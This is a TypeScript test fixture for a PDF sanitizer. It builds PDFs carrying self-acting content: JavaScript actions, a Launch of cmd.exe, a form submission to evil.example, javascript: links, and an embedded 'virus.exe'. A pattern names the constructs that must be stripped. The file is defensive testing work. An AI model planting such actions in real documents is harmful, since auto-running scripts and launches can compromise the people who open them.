/** PDFs that act by themselves or carry programs (ISO 32000-2, 12.6, 12.7, 13): what is accepted has lost that. */
import { type Case, of } from './case'
import { withOnePage } from './rough'

/** 12.6, 12.7, 13: what acts by itself. */
export function actors(): Case[] {
  const actions: Record<string, string> = {
    JavaScript: '<</S/JavaScript/JS(app.alert\\(1\\))>>',
    'JavaScript by a name with escapes': '<</S/J#61vaScript/JS(app.alert\\(1\\))>>',
    Launch: '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>',
    GoToR: '<</S/GoToR/F(other.pdf)/D[0/Fit]>>',
    GoToE: '<</S/GoToE/D[0/Fit]/T<</R/C>>>>',
    SubmitForm: '<</S/SubmitForm/F(https://evil.example)>>',
    ImportData: '<</S/ImportData/F(x.fdf)>>',
    Rendition: '<</S/Rendition/JS(app.alert\\(1\\))>>',
    'a link to JavaScript': '<</S/URI/URI(javascript:alert\\(1\\))>>',
    'a link that goes on to Launch': '<</S/URI/URI(https://example.com)/Next<</S/Launch/F(cmd.exe)>>>>',
    'an action that is its own next': '<</S/JavaScript/JS(1)/Next 4 0 R>>',
  }
  const never =
    /\/(JavaScript|Launch|GoToR|GoToE|SubmitForm|ImportData|Rendition)\b|javascript:|app\.alert|cmd\.exe/
  const all: Record<string, Uint8Array> = {}
  for (const [name, action] of Object.entries(actions)) {
    const more = [action]
    all[`${name} on opening`] = withOnePage({ root: '/OpenAction 4 0 R', more })
    all[`${name} of the document`] = withOnePage({ root: '/AA<</WC 4 0 R>>', more })
    all[`${name} of the page`] = withOnePage({ leaf: '/AA<</O 4 0 R>>', more })
    all[`${name} of a link`] = withOnePage({ leaf: '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]', more })
    all[`${name} of a field`] = withOnePage({
      root: '/AcroForm<</Fields[5 0 R]>>',
      leaf: '/Annots[5 0 R]',
      more: [action, '<</Subtype/Widget/FT/Tx/T(f)/Rect[0 0 9 9]/AA<</K 4 0 R/F 4 0 R>>/A 4 0 R>>'],
    })
    all[`${name} of an outline item`] = withOnePage({
      root: '/Outlines 5 0 R',
      more: [action, '<</First 6 0 R/Last 6 0 R>>', '<</Title(x)/Parent 5 0 R/A 4 0 R>>'],
    })
  }
  return [
    ...of('actor', all, never),
    ...of(
      'actor',
      {
        'scripts by name': withOnePage({
          root: '/Names<</JavaScript<</Names[(a)4 0 R]>>>>',
          more: ['<</S/JavaScript/JS(1)>>'],
        }),
        'embedded programs': withOnePage({
          root: '/Names<</EmbeddedFiles<</Names[(virus.exe)4 0 R]>>>>',
          more: [
            '<</Type/Filespec/F(virus.exe)/EF<</F 5 0 R>>>>',
            { dictionary: '/Type/EmbeddedFile', data: 'MZ' },
          ],
        }),
        'an attached program': withOnePage({
          leaf: '/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]',
          more: [
            '<</Type/Filespec/F(virus.exe)/EF<</F 5 0 R>>>>',
            { dictionary: '/Type/EmbeddedFile', data: 'MZ' },
          ],
        }),
        'a film': withOnePage({
          leaf: '/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(x.avi)>>>><</Subtype/RichMedia/Rect[0 0 9 9]>>]',
        }),
        'a form in XFA': withOnePage({
          root: '/AcroForm<</XFA 4 0 R/Fields[]>>',
          more: [{ data: '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>' }],
        }),
        'a portfolio': withOnePage({ root: '/Collection<</D(x)>>' }),
      },
      /\/(JavaScript|EmbeddedFiles?|FileAttachment|Movie|RichMedia|XFA|Collection)\b|virus\.exe/,
    ),
  ]
}
